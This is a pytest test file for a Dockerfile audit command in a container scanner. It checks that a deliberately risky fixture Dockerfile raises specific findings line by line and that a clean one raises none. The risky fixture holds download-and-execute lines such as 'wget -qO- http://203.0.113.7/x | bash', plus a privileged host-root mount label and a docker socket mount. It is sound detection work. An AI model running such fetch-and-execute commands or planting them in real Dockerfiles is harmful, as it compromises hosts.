"""`explorer audit Dockerfile`: each risky instruction is flagged on its own line (heredocs and line
continuations included); a clean Dockerfile raises nothing."""

from __future__ import annotations

import contextlib
import io
import json
import random
import string

import pytest

from explorer.main import main
from explorer.detectors.token_checksums import with_checksum


def run(*argv):
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = main(list(argv))
    return rc, out.getvalue(), err.getvalue()


def random_text(seed: int, n: int) -> str:  # made at run time: no token in this file for a scanner to flag
    rng = random.Random(seed)
    return "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(n))


RISKY = """\
# syntax=docker/dockerfile:1
FROM ubuntu AS build
ARG NPM_TOKEN=npm_{npm}
RUN apt-get update && \\
    curl -fsSL https://get.example.com/install.sh \\
    | sh
RUN <<EOF
set -e
wget -qO- http://203.0.113.7/x | bash
EOF
ENV GITHUB_TOKEN={ghp} \\
    DOCKER_HOST=tcp://10.0.0.1:2375
ADD https://example.com/tool.tgz /opt/
RUN --mount=type=bind,source=/var/run/docker.sock,target=/var/run/docker.sock docker ps
FROM build
LABEL run="docker run --privileged -v /:/host IMAGE"
VOLUME ["/var/run/docker.sock"]
USER root
CMD ["sh", "-c", "curl -s http://203.0.113.7/boot | sh"]
"""

EXPECTED = {
    (2, "misconfig.history.unpinned-base"),
    (3, "secret.npm-token"),
    (4, "suspicious.history.download-exec"),
    (7, "suspicious.history.download-exec"),
    (11, "secret.github-pat"),
    (11, "misconfig.config.docker-host-plaintext"),
    (13, "misconfig.history.remote-add"),
    (14, "misconfig.config.docker-socket"),
    (16, "misconfig.config.privileged-label"),
    (17, "misconfig.config.sensitive-volume"),
    (18, "misconfig.config.root-user"),
    (19, "suspicious.history.download-exec"),
}

CLEAN = """\
# syntax=docker/dockerfile:1
FROM python:3.12-slim@sha256:{digest} AS build
ARG VERSION=1.2.3
WORKDIR /src
COPY requirements.txt .
RUN --mount=type=secret,id=pip_token \\
    pip install --no-cache-dir -r requirements.txt
RUN <<EOF
set -e
python -m compileall .
EOF
ADD --checksum=sha256:{digest} https://example.com/tool.tgz /opt/
FROM build
ENV PYTHONUNBUFFERED=1 APP_ENV=production
LABEL org.opencontainers.image.source="https://example.com/app"
VOLUME /data
USER 10001:10001
HEALTHCHECK CMD ["python", "-c", "print(1)"]
ENTRYPOINT ["python", "-m", "app"]
"""

GHP = with_checksum("ghp_", random_text(11, 36))


@pytest.fixture
def dockerfiles(tmp_path):
    risky = tmp_path / "Dockerfile.risky"
    risky.write_text(RISKY.format(npm=with_checksum("", random_text(5, 36)), ghp=GHP))
    clean = tmp_path / "Dockerfile"
    clean.write_text(CLEAN.format(digest="ab" * 32))
    return risky, clean


def test_each_risky_instruction_on_its_line(dockerfiles):
    risky, _ = dockerfiles
    rc, out, err = run("audit", str(risky), "--format", "json")
    assert (rc, err) == (0, "")
    doc = json.loads(out)
    assert doc["dockerfile"] == str(risky)
    assert {(f["line"], f["rule_id"]) for f in doc["findings"]} == EXPECTED
    assert all(f["source"] == "dockerfile" and f["path"] == str(risky) for f in doc["findings"])
    assert GHP[:12] not in out  # secrets are masked
    assert sum(doc["summary"].values()) == len(EXPECTED)


def test_clean_dockerfile_is_silent(dockerfiles):
    _, clean = dockerfiles
    rc, out, err = run("audit", str(clean), "--format", "json", "--fail-on", "info")
    assert (rc, err) == (0, "") and json.loads(out)["findings"] == []
    rc, out, _ = run("audit", str(clean))
    assert out.strip() == f"{clean}: no findings"


def test_fail_on_severity_and_sarif(dockerfiles):
    risky, _ = dockerfiles
    assert run("audit", str(risky), "--fail-on", "HIGH", "--format", "json")[0] == 1  # the GitHub token
    assert run("audit", str(risky), "--fail-on", "critical", "--format", "json")[0] == 0
    rc, out, _ = run("audit", str(risky), "--format", "json", "--severity", "low")
    assert {f["rule_id"] for f in json.loads(out)["findings"]} == {
        "misconfig.config.root-user", "misconfig.history.remote-add", "misconfig.history.unpinned-base",
        "misconfig.config.docker-socket"}
    rc, out, _ = run("audit", str(risky), "--format", "sarif")
    results = json.loads(out)["runs"][0]["results"]
    assert {(r["locations"][0]["physicalLocation"]["region"]["startLine"], r["ruleId"]) for r in results} == EXPECTED
    assert {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in results} == {str(risky)}


@pytest.mark.parametrize("content, message", [
    (None, "No such file or directory"),
    (b"FROM x\n\0\0", "holds NUL bytes; not a Dockerfile"),
])
def test_bad_dockerfile_is_one_line(tmp_path, content, message):
    path = tmp_path / "Dockerfile"
    if content is not None:
        path.write_bytes(content)
    rc, out, err = run("audit", str(path))
    assert (rc, out, err) == (2, "", f"explorer: {path}: {message}\n")


def test_the_projects_own_dockerfile_is_clean():
    from pathlib import Path
    own = Path(__file__).resolve().parents[2] / "docs" / "Dockerfile"
    rc, out, err = run("audit", str(own), "--format", "json", "--fail-on", "info")
    assert (rc, err) == (0, "") and json.loads(out)["findings"] == []


def test_scan_with_dockerfile(dockerfiles, tmp_path):
    from explorer.demo import write_demo
    risky, _ = dockerfiles
    image = write_demo(str(tmp_path))
    plain = json.loads(run("scan", image, "--format", "json")[1])["findings"]
    rc, out, err = run("scan", image, "--format", "json", "--dockerfile", str(risky))
    both = json.loads(out)["findings"]
    assert rc == 0
    assert [f for f in both if f["source"] != "dockerfile"] == plain
    assert {(f["line"], f["rule_id"]) for f in both if f["source"] == "dockerfile"} == EXPECTED
    rc, out, err = run("scan", image, "--dockerfile", str(tmp_path / "missing"))
    assert (rc, out, err) == (2, "", f"explorer: {tmp_path / 'missing'}: No such file or directory\n")
